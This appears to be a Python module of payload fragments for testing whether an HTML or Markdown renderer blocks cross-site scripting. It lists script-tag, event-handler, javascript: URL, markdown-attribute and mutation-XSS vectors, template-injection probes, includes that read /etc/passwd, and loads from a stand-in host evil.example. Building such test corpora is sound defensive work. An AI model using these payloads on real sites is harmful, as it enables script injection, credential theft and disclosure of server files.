"""Parts of payloads. In all of them ``@C`` is a call that a test notices, and ``@M`` the payload's marker."""

from __future__ import annotations

#: Ends of whatever the text may be in: a tag, an attribute, raw text, a comment.
WAYS_OUT = (
    *("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</pre>", "</template>"),
    *("</noscript>", "</a>", "</h1>", "</p></div>", "</bdi>", "</summary></details>", "</head><body>"),
)
SCRIPTS = (
    "<script>@C</script>",
    "<script type=module>@C</script>",
    "<ScRiPt >@C</sCrIpT >",
    "<script/x>@C</script/x>",
    "<script src=data:text/javascript,@C></script>",
    "<script src=//evil.example/@M.js></script>",
    "<svg><script>@C</script></svg>",
    "<math><mtext><script>@C</script></mtext></math>",
    "<iframe srcdoc='<script>parent.@C</script>'></iframe>",
    "<object data='data:text/html,<script>parent.@C</script>'></object>",
    "<<script>@C//<</script>",
    "<script x='>'>@C</script>",
    "<template shadowrootmode=open><script>@C</script></template>",
    '<noscript><p title="</noscript><script>@C</script>"></noscript>',
)

EVENTS = (
    *("abort", "afterprint", "animationcancel", "animationend", "animationiteration", "animationstart", "auxclick"),
    *("beforecopy", "beforecut", "beforeinput", "beforematch", "beforepaste", "beforeprint", "beforetoggle"),
    *("beforeunload", "beforexrselect", "blur", "cancel", "canplay", "canplaythrough", "change", "click", "close"),
    *("command", "contentvisibilityautostatechange", "contextlost", "contextmenu", "contextrestored", "copy"),
    *("cuechange", "cut", "dblclick", "drag", "dragend", "dragenter", "dragleave", "dragover", "dragstart", "drop"),
    *("durationchange", "emptied", "encrypted", "ended", "error", "focus", "focusin", "focusout", "formdata"),
    *("fullscreenchange", "fullscreenerror", "gotpointercapture", "hashchange", "input", "invalid", "keydown"),
    *("keypress", "keyup", "languagechange", "load", "loadeddata", "loadedmetadata", "loadstart"),
    *("lostpointercapture", "message", "messageerror", "mousedown", "mouseenter", "mouseleave", "mousemove"),
    *("mouseout", "mouseover", "mouseup", "mousewheel", "offline"),
    *("online", "pagehide", "pageshow", "paste", "pause"),
    *("play", "playing", "pointercancel", "pointerdown", "pointerenter", "pointerleave", "pointermove", "pointerout"),
    *("pointerover", "pointerrawupdate", "pointerup", "popstate", "progress", "ratechange", "rejectionhandled"),
    *("reset", "resize", "scroll", "scrollend", "scrollsnapchange", "scrollsnapchanging", "search"),
    *("securitypolicyviolation", "seeked", "seeking", "select", "selectionchange", "selectstart", "slotchange"),
    *("stalled", "storage", "submit", "suspend", "timeupdate", "toggle", "transitioncancel", "transitionend"),
    *("transitionrun", "transitionstart", "unhandledrejection", "unload", "volumechange", "waiting"),
    *("webkitanimationend", "webkitfullscreenchange", "webkittransitionend", "wheel"),
)
HANDLERS = (
    "<img src=x on@E=@C> @M",
    '"><b on@E="@C" autofocus tabindex=0 style=display:block>@M</b>',
    "' on@E='@C' data-x='@M",
)

ADDRESSES = (
    *("javascript:@C", "JaVaScRiPt:@C", "java\tscript:@C", "java\nscript:@C"),
    *("\x01javascript:@C", "javascript\x00:@C"),
    *("&#106;avascript:@C", "javascript&colon;@C", "javascript&#58;@C", "javascript&#x3a;@C", "java&Tab;script:@C"),
    *("javascript%3A@C", "%6aavascript:@C", "javascript://example.org/%0a@C", "javascript:/*https://*/@C"),
    *("data:text/html,<script>@C</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==,@M"),
    *("data:image/svg+xml,<svg onload=@C>", "vbscript:@C", "livescript:@C", "view-source:javascript:@C"),
    *("blob:https://evil.example/@M", "file:///etc/passwd", "filesystem:https://evil.example/@M", "about:blank#@M"),
    *("//evil.example/@M", "\\\\evil.example\\@M", "/\\evil.example/@M", "https:evil.example/@M"),
    *(
        "https://user@evil.example/@M",
        "https://evil.example/@M\u202e",
        "http://127.0.0.1:1/@M",
        "ftp://evil.example/@M",
    ),
    *('https://evil.example/@M" onclick="@C', "https://evil.example/@M'onclick='@C", "https://evil.example/@M><b>"),
    "https://evil.example/@M?a=1&amp;b=<script>@C</script>",
)
PLACES_OF_ADDRESSES = (
    *("@U", '<a href="@U">@M</a>', "[@M](@U)", "![@M](@U)", "<@U> @M", "[@M](<@U>)", "[@M][x]\n\n[x]: @U"),
    *("<iframe src='@U'></iframe> @M", "<form action='@U'><button>@M</button></form>"),
    *("<svg><a xlink:href='@U'><text>@M</text></a></svg>", "<meta http-equiv=refresh content='0;url=@U'> @M"),
    *("<link rel=stylesheet href='@U'> @M", "<img src='@U'> @M"),
)

#: How a text stands in another one: alone, in a sentence, in a quotation, in a list.
AROUND = ("@T @M", "@M before @T and after", "> @T @M", "- @T @M", "@M\n\n@T")
MARKDOWN = (
    *("[x](<javascript:@C>)", '[x](javascript:@C "title")', '![x](x" onerror="@C)', '![" onerror=@C x="](y)'),
    *("<javascript:@C>", "[x](x 'a' onclick='@C')", "[![x](javascript:@C)](javascript:@C)", "[](javascript:@C)"),
    *("*[HTML]: <b onclick=@C>", "[^1] [^1]: <img src=x onerror=@C>", '!!! note "<img src=x onerror=@C>"'),
    *('=== "<img src=x onerror=@C>"', "{++<img src=x onerror=@C>++}", "++ctrl+alt+<b onclick=@C>++"),
    *(":smile: :material-account:{ onclick=@C }", "==x== ^^y^^ ~~z~~", "(c) (tm) --> <-- =/= 1/2", "[TOC]"),
    *(
        "``` {.python onclick=@C}",
        "~~~mermaid",
        "`code` ``co`de`` `<b onclick=@C>`",
        '<div markdown="1" onclick=@C>**x**',
    ),
    *('--8<-- "/etc/passwd"', '--8<-- "https://evil.example/"', ';--8<-- "mkdocs.yml"', '-8<- "mkdocs.yml"'),
    *("wzxhzdk:0 klzzwxh:0000", "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "[[wiki link]] [[javascript:@C]]"),
    *("# heading", "heading\n=======", "* * *", "| a | b |\n|---|---|\n| c | d |", "1. one", "\tcode", "    code"),
    *("term\n:   definition <b onclick=@C>", "a\\\nb", "a  \nb", "&nbsp;&copy;&#0;&bogus;", "\\<b onclick=@C\\>"),
    *("**bold** __bold__ *it* _it_ ***x***", "snake_case_name and *stars* and 2*3*4", "C# and F# and A*-search"),
    *("@user #123 https://example.org www.example.org", "user@example.org", "<!-- @C -->", "[x](y)[x][y]![x][y]"),
    *("\\(x\\) \\[y\\] $z$", "{ .class #id }", "{{% include x %}}", "???+ note\n    <b onclick=@C>"),
)
ATTRIBUTE_BASES = ("x", "*x*", "[x](y)", "# x ", "![x](y)", "<b>x</b>", "`x`", "- x\n", "x\n")
ATTRIBUTES = (
    *("{: onclick=@C }", "{: onclick='@C' #id .class }", "{:onerror=@C}", "{ onclick=@C }", "{: style='x' }"),
    *("{: href=javascript:@C }", "{: srcdoc='<script>@C</script>' }", "{: onmouseover=@C onfocus=@C autofocus }"),
    *("{: data-x='\"><img src=x onerror=@C>' }", "{: id=\"x' onclick='@C\" }"),
)

HTML = (
    *("<!-- a comment that does not end", "<!--><img src=x onerror=@C>-->", "<!--!><img src=x onerror=@C>"),
    *("<![CDATA[<img src=x onerror=@C>]]>", "<?php @C ?>", "<?xml version='1.0'?><img src=x onerror=@C>"),
    *("<!DOCTYPE html><script>@C</script>", "<!ELEMENT x><img src=x onerror=@C>", "</ x><img src=x onerror=@C>"),
    *("<img/src=x/onerror=@C>", "<img src=x onerror=@C", "<img src=`x`onerror=@C>", '<img """><script>@C</script>">'),
    *(
        "<img src='//evil.example/?",
        '<a href="//evil.example/?',
        "<svg/onload=@C>",
        "<svg><style><img src=x onerror=@C>",
    ),
    *(
        "<math><annotation-xml encoding='text/html'><img src=x onerror=@C>",
        "<select><noembed></select><img src=x onerror=@C>",
    ),
    *(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@C&gt;'>",
        "<x onclick=@C>",
    ),
    *(
        "<form id=x><input name=attributes><input name=children>",
        "<a id=config><a id=config name=base href=//evil.example>",
    ),
    *(
        "<details open ontoggle=@C>x</details>",
        "<video><source onerror=@C></video>",
        "<body onload=@C>",
        "<html onclick=@C>",
    ),
    *("<input autofocus onfocus=@C>", "<marquee onstart=@C>x</marquee>", "<base href='https://evil.example/'>"),
    *("<style>@import 'https://evil.example/';</style>", "<p style='background:url(//evil.example/)'>x</p>"),
    *(
        "<plaintext>",
        "<xmp><img src=x onerror=@C>",
        "<frameset onload=@C>",
        "<button popovertarget=x onclick=@C>x</button>",
    ),
    *("<a href=# ping=https://evil.example/>x</a>", "<b>&lt;b&gt; &amp;amp; &#60;</b>"),
    "<T> and a < b > c and a<b>c",
)
TEMPLATES = (
    *(
        "{{ 7 * 7 }}",
        "{{ config }}",
        "{{ ''.__class__.__mro__ }}",
        "{% raw %}",
        "{% include '/etc/passwd' %}",
        "{# gone #}",
    ),
    *(
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('@C')()}}",
        "{{`${@C}`}}",
        "%(x)s %s %d",
        "{0} {x!r}",
    ),
    *("$(id) `id`", "{{ page.meta }}", "{% endblock %}{% block scripts %}<script>@C</script>"),
    *("[[${7*7}]]", "@{7*7}"),
    *("{{{x}}}", "{{- 1 -}} {%- if 1 -%}", "<#assign x=1>", "{php}@C{/php}", "$!{x} #set($x=1)"),
)
